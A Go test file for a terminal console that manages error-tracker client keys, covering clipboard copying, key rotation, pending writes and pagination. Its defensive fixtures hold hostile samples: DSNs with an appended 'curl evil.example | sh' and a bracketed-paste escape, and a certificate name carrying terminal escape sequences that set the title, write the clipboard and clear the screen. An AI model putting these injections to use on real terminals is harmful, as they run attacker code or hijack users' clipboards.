package tui

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/errtrack/errtrack/apiclient"
	"github.com/errtrack/errtrack/apiclient/apiclienttest"
	"github.com/errtrack/errtrack/internal/rotation"
)

// A DSN the screen shows cleaned but whose raw text is a URL, a newline, a
// shell command and the end of bracketed paste must never be copied.
func TestClipboardRefusesUnsafeDSN(t *testing.T) {
	g := demoGitLab(t)
	api := &hostileDSN{API: g.api, suffix: "   \ncurl evil.example | sh\n\x1b[201~", key: 1}
	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
	h.key("c")
	h.mustSee("Not copied", "not safe to paste")
	if c := h.copied(); len(c) != 0 {
		t.Fatalf("copied %q", c)
	}
	h.key("down", "c") // a plain DSN still copies
	if c := h.copied(); len(c) != 1 || !strings.HasPrefix(c[0], "http://glet_") || strings.ContainsAny(c[0], " \n\x1b") {
		t.Fatalf("copied %q", c)
	}
}

// The new DSN of a rotation is copied only when safe: a create answering
// an unusable DSN stops the rotation before anything is pointed at it or
// copied, and says so.
func TestRotateDoesNotCopyUnsafeDSN(t *testing.T) {
	g := demoGitLab(t)
	api := &hostileDSN{API: g.api, suffix: "\ncurl evil | sh\n", key: 4}
	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
	h.key("down", "R")
	h.mustSee("cannot be used here", "No variable was pointed at it and the old key is not deleted")
	if c := h.copied(); len(c) != 0 {
		t.Fatalf("copied %q", c)
	}
}

// hostileDSN appends suffix to the DSN of one key, as a hostile server would.
type hostileDSN struct {
	API
	suffix string
	key    int64
}

func (f *hostileDSN) ListClientKeys(ctx context.Context, p apiclient.ProjectRef) ([]apiclient.ClientKey, *apiclient.Response, error) {
	keys, r, err := f.API.ListClientKeys(ctx, p)
	for i := range keys {
		if keys[i].ID == f.key {
			keys[i].DSN += f.suffix
		}
	}
	return keys, r, err
}

func (f *hostileDSN) CreateClientKey(ctx context.Context, p apiclient.ProjectRef) (*apiclient.ClientKey, *apiclient.Response, error) {
	k, r, err := f.API.CreateClientKey(ctx, p)
	if k != nil && k.ID == f.key {
		k.DSN += f.suffix
	}
	return k, r, err
}

// Quitting while a write is in flight: the console can say what was under way.
func TestPendingWritesNamed(t *testing.T) {
	h, _ := console(t, "1")
	if w := h.m.PendingWrites(); len(w) != 0 {
		t.Fatalf("pending before any write: %+v", w)
	}
	create := h.holdWrite("n") // the create's command is not run: still in flight
	if w := h.m.PendingWrites(); len(w) != 1 || !strings.Contains(w[0].What, "client key was being created in demo/web-shop") || w[0].Reading {
		t.Fatalf("pending %+v", w)
	}
	h.key("R")
	if w := h.m.PendingWrites(); len(w) != 1 {
		t.Fatalf("a second create started: %+v", w)
	}
	h.run(create)
	if w := h.m.PendingWrites(); len(w) != 0 {
		t.Fatalf("pending after the answer: %+v", w)
	}
}

// A server that sends empty pages with X-Next-Page forever: the project
// list stops asking.
func TestEndlessEmptyProjectPagesStop(t *testing.T) {
	var calls atomic.Int32
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch r.URL.Path {
		case "/api/v4/user":
			fmt.Fprint(w, `{"id":1,"username":"u"}`)
		case "/api/v4/projects":
			n := calls.Add(1)
			page := 0
			fmt.Sscan(r.URL.Query().Get("page"), &page)
			w.Header().Set("X-Next-Page", fmt.Sprint(page+1))
			if n == 1 {
				fmt.Fprint(w, `[{"id":1,"name":"A","path_with_namespace":"g/a"}]`)
				return
			}
			fmt.Fprint(w, `[]`)
		default:
			w.WriteHeader(404)
			fmt.Fprint(w, `{"message":"404 Not Found"}`)
		}
	}))
	defer ts.Close()
	c, _ := apiclient.New(ts.URL, "fake-token-x", apiclienttest.WithRetries(0, 0))
	h := newHarness(t, Deps{API: c, Host: ts.URL})
	for i := 0; i < 5; i++ {
		h.key("down", "end")
	}
	h.mustSee("g/a")
	if n := calls.Load(); n > 2 {
		t.Fatalf("%d page requests for a list that ended at an empty page", n)
	}
}

// hostileTLS serves HTTPS with a certificate whose names are escape
// sequences: Go puts them in the error text when the name does not match.
func hostileTLS(t *testing.T) string {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "x"},
		DNSNames:  []string{"evil\x1b]0;owned\x07\x1b]52;c;eA==\x07\x1b[2J.example"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, _ := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	ts := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	ts.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	ts.Config.ErrorLog = log.New(io.Discard, "", 0)
	ts.StartTLS()
	t.Cleanup(ts.Close)
	return ts.URL
}

// Transport errors carry text the network controls; every pane that shows
// one (projects, keys, settings, login) draws it cleaned.
func TestHostileTransportTextInEveryPane(t *testing.T) {
	url := hostileTLS(t)
	c, err := apiclient.New(url, "fake-token-x", apiclienttest.WithRetries(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, Deps{API: c, Host: url, Project: "1"})
	h.mustSee("certificate")
	checkSafe(t, h.m.View().Content) // keys pane
	h.key("tab")
	checkSafe(t, h.m.View().Content) // settings pane
	h.key("esc")
	checkSafe(t, h.m.View().Content) // projects pane
	h.mustSee("Could not load projects")

	login := func(ctx context.Context, host, token string) (API, error) {
		c, _ := apiclient.New(url, token, apiclienttest.WithRetries(0, 0))
		_, _, err := c.CurrentUser(ctx)
		return nil, err
	}
	h = newHarness(t, Deps{Host: url, Login: login})
	h.typeText("fake-token-x")
	h.key("enter")
	h.mustSee("certificate")
	checkSafe(t, h.m.View().Content)
}

// fakeClipboard is a system clipboard that works or does not.
type fakeClipboard struct {
	got  []string
	fail bool
}

func (c *fakeClipboard) WriteAll(s string) error {
	if c.fail {
		return errors.New("no clipboard tool")
	}
	c.got = append(c.got, s)
	return nil
}

// The system clipboard first; OSC 52 over SSH or when it does not work; the
// status says which, and never claims what it cannot know.
func TestClipboardChoice(t *testing.T) {
	g := demoGitLab(t)
	cb := &fakeClipboard{}
	h := newHarness(t, Deps{API: g.api, Host: g.url, Project: "1", Clipboard: cb})
	h.key("c")
	h.mustSee("Copied the DSN of key 1 to the system clipboard.")
	if len(cb.got) != 1 || len(h.copied()) != 0 {
		t.Fatalf("system %v, OSC 52 %v", cb.got, h.copied())
	}
	cb.fail = true
	h.key("c")
	h.mustSay("Sent the DSN of key 1 to the terminal's clipboard (OSC 52; in tmux, set-clipboard on).")
	if len(h.copied()) != 1 {
		t.Fatal("no OSC 52 after the system clipboard failed")
	}
	cb = &fakeClipboard{}
	h = newHarness(t, Deps{API: g.api, Host: g.url, Project: "1", Clipboard: cb, Remote: true})
	h.key("c")
	if len(cb.got) != 0 || len(h.copied()) != 1 {
		t.Fatal("over SSH the system clipboard is the remote machine's: OSC 52 must be used")
	}
}

// Quitting during a rotation names the key it replaces from the start, and
// quitting at its question says what exists: both keys, the variable.
func TestQuitDuringRotationSaysWhatExists(t *testing.T) {
	h, _ := console(t, "1")
	rotate := h.holdWrite("R")
	// Held before it ran, the rotation has changed nothing yet.
	if w := h.m.PendingWrites(); len(w) != 1 || !strings.Contains(w[0].What, "a rotation of key 1 in demo/web-shop was reading its plan") || !w[0].Reading {
		t.Fatalf("pending %+v", w)
	}
	if r := h.m.RotationsAtQuestion(); len(r) != 0 {
		t.Fatalf("no question is open: %+v", r)
	}
	h.run(rotate)
	h.mustSay("Update its CI/CD variables?")
	r := h.m.RotationsAtQuestion()
	if len(r) != 1 || r[0].New == nil {
		t.Fatalf("at the question: %+v", r)
	}
	if s := r[0].State(rotation.Checks{}); !strings.Contains(s, "Both keys exist") || !strings.Contains(s, "SENTRY_DSN (all environments) still holds the old DSN") {
		t.Fatal(s)
	}
}

// A delete's question opens only where the user still looks at the key:
// moved to another key, or back to the list, while it was looked up, the
// question is dropped with a word, and no later key answers it.
func TestDeleteQuestionDroppedWhenUserMovedOn(t *testing.T) {
	for _, move := range []string{"down", "esc"} {
		h, g := console(t, "1")
		h.mustSee("glet_")
		lookup := h.holdWrite("d")
		h.key(move)
		h.run(lookup)
		h.mustSay("The question to delete client key 1 was not shown: you moved on")
		if len(h.m.dialogs) != 0 {
			t.Fatalf("%s: a question opened", move)
		}
		h.advance(gracePeriod)
		h.key("y")
		if !slices.Contains(g.keyIDs(1), 1) {
			t.Fatalf("%s: key 1 was deleted", move)
		}
	}
	h, g := console(t, "1")
	h.mustSee("glet_")
	h.run(h.holdWrite("d")) // still on key 1: asked
	h.mustSay("Delete client key 1 of demo/web-shop?")
	h.advance(gracePeriod)
	h.key("y")
	h.mustSay("Deleted client key 1")
	if slices.Contains(g.keyIDs(1), 1) {
		t.Fatal("key 1 was not deleted")
	}
}
